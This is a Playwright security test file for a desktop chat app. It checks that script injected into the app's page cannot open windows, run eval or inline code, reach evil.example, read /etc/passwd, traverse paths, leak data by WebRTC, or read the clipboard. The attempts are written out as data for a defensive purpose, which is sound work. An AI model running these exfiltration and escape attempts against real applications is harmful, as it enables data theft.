/**
 * A page of ours gone wrong: what script in it could try, and that main and Chromium refuse it. Run on the
 * code as it is built, and in the project `packaged` on the packed app with its fuses.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { Page } from '@playwright/test';
import { asThePage, expect, test } from '../support/gone-wrong.ts';
import { conversationList } from '../support/pages.ts';

/** The part of the policy that the script runs against. */
function violationOf(page: Page, script: () => unknown): Promise<string> {
  return page.evaluate(
    (source) =>
      new Promise<string>((settle) => {
        const report = (event: SecurityPolicyViolationEvent) => settle(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', report, { once: true });
        new Function(`return (${source})()`)();
      }),
    script.toString(),
  );
}

test('opens no window, leaves for no other address, and starts no other program', async ({
  victim: { app, opened },
  page,
}) => {
  const before = await app.addresses();
  const openedBefore = opened();
  for (const address of [
    'https://evil.example/',
    'mailto:thief@evil.example?subject=what-it-has-read',
    'evil-scheme:what-it-has-read',
    'file:///etc/passwd',
    'app://media/x',
    'app://evil/index.html',
    'data:text/html,attacked',
    'view-source:app://app/index.html',
  ]) {
    expect(await page.evaluate((url) => window.open(url) === null, address)).toBe(true);
    await page.evaluate((url) => {
      const link = document.createElement('a');
      link.href = url;
      link.click();
      link.target = '_blank';
      link.click();
      window.location.href = url;
    }, address);
    await page.waitForTimeout(100);
    expect(await app.addresses()).toEqual(before);
  }
  expect(opened()).toEqual(openedBefore);
});

test('a window whose page left our origin all the same is closed, and opens again', async ({
  victim: { app },
  main,
  session,
}) => {
  // The one address that asks no leave.
  await main.evaluate(() => void window.location.assign('about:blank')).catch(() => {});
  await expect.poll(() => app.addresses()).toEqual([]);
  await (await session.tray.item()).choose(/^Open/);
  await expect(conversationList(await app.page('main'))).toBeVisible();
});

test('runs no script but its own', async ({ page }) => {
  const attempts: [name: string, script: () => unknown, outcome: RegExp][] = [
    // biome-ignore lint/security/noGlobalEval: it is what must not work
    ['eval', () => eval('1 + 1'), /^EvalError|^TypeError/],
    ['Function', () => new Function('return 1')(), /^EvalError|^TypeError/],
    ['a timer of text', () => setTimeout('attacked = 1' as unknown as () => void), /Error$/],
    ['markup', () => Object.assign(document.body, { innerHTML: '<b>x</b>' }), /^TypeError/],
    [
      'an inline script',
      () => Object.assign(document.createElement('script'), { textContent: 'attacked = 1' }),
      /^TypeError/,
    ],
    [
      "another host's script",
      () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
      /^TypeError/,
    ],
    [
      'an inline handler',
      () => document.body.setAttribute('onclick', 'attacked = 1'),
      /^TypeError/,
    ],
    ['an import', () => import('data:text/javascript,attacked=1' as string), /^TypeError/],
    ['Node', () => (globalThis as { require?: unknown }).require, /^done: undefined$/],
    ['the process', () => typeof process, /^done: undefined$/],
  ];
  for (const [name, script, outcome] of attempts) {
    expect.soft(await asThePage(page, script), name).toMatch(outcome);
  }
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
});

test('asks no other host for anything', async ({ page }) => {
  const attempts: [script: () => unknown, directive: string][] = [
    [() => fetch('https://evil.example/').catch(() => {}), 'connect-src'],
    [() => new WebSocket('wss://evil.example/'), 'connect-src'],
    [() => navigator.sendBeacon('https://evil.example/'), 'connect-src'],
    [() => Object.assign(new Image(), { src: 'https://evil.example/x.png' }), 'img-src'],
    [() => Object.assign(new Audio(), { src: 'https://evil.example/x.ogg' }), 'media-src'],
    [() => new FontFace('x', 'url(https://evil.example/x.woff2)').load(), 'font-src'],
    [() => document.body.setAttribute('style', 'color: red'), 'style-src-attr'],
    [() => document.body.append(document.createElement('style')), 'style-src-elem'],
  ];
  for (const [script, directive] of attempts) {
    expect.soft(await violationOf(page, script), String(script)).toBe(directive);
  }
});

test('sends no datagram: calls from page to page obey no policy', async ({ page }) => {
  let heard = 0;
  const datagrams = createSocket('udp4', () => {
    heard += 1;
  }).bind(0, '127.0.0.1');
  await once(datagrams, 'listening');
  try {
    await page.evaluate(async (port) => {
      const login = { username: 'what-it-has-read', credential: 'x' };
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${port}` },
          { urls: `turn:127.0.0.1:${port}?transport=udp`, ...login },
        ],
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((wake) => setTimeout(wake, 1000));
      peer.close();
    }, datagrams.address().port);
    expect(heard).toBe(0);
  } finally {
    datagrams.close();
  }
});

test('reaches no file and no device', async ({ page }) => {
  const attempts: [name: string, script: () => unknown, outcome: RegExp][] = [
    ['a file', () => fetch('file:///etc/passwd'), /^TypeError/],
    [
      'a file beside the pages',
      () => fetch('/..%2f..%2fpackage.json').then(({ status }) => status),
      /^done: 404$/,
    ],
    [
      'a post to the pages',
      () => fetch('/index.html', { method: 'POST' }).then(({ status }) => status),
      /^done: 405$/,
    ],
    ['media of nobody', () => fetch('app://media/a/b/0'), /^TypeError/],
    [
      // Where there is no camera, asking for one proves nothing.
      'camera, microphone and others',
      async () => {
        const names = ['camera', 'microphone', 'midi', 'clipboard-read', 'local-fonts'];
        const query = (name: string) => navigator.permissions.query({ name } as never);
        return (await Promise.all(names.map(query))).map(({ state }) => state);
      },
      /^done: denied,denied,denied,denied,denied$/,
    ],
    [
      'where the computer is',
      () =>
        new Promise((answer) =>
          navigator.geolocation.getCurrentPosition(answer, ({ code }) => answer(code)),
        ),
      /^done: 1$/,
    ],
    ['notifications of its own', () => Notification.requestPermission(), /^done: denied$/],
    ['the clipboard', () => navigator.clipboard.readText(), /^NotAllowedError/],
  ];
  for (const [name, script, outcome] of attempts) {
    expect.soft(await asThePage(page, script), name).toMatch(outcome);
  }
});

test('has no frame and no webview that could do more', async ({ victim: { app }, page }) => {
  const before = await app.addresses();
  const found = await page.evaluate(async () => {
    const bridges: string[] = [];
    for (const address of [
      'about:blank',
      'app://app/index.html?view=main',
      'https://evil.example/',
    ]) {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      await new Promise((wake) => setTimeout(wake, 300));
      try {
        const inside = frame.contentWindow as unknown as { wassistTray?: unknown } | null;
        bridges.push(typeof inside?.wassistTray);
      } catch {
        // Of another origin: Chromium shows its own page for what was blocked.
        bridges.push('undefined');
      }
      frame.remove();
    }
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.example/');
    document.body.append(view);
    await new Promise((wake) => setTimeout(wake, 300));
    // Only a real webview has methods.
    const methods = typeof (view as unknown as { getURL?: unknown }).getURL;
    view.remove();
    return [...bridges, methods];
  });
  expect(found).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  expect(page.frames()).toHaveLength(1);
  expect(await app.addresses()).toEqual(before);
});
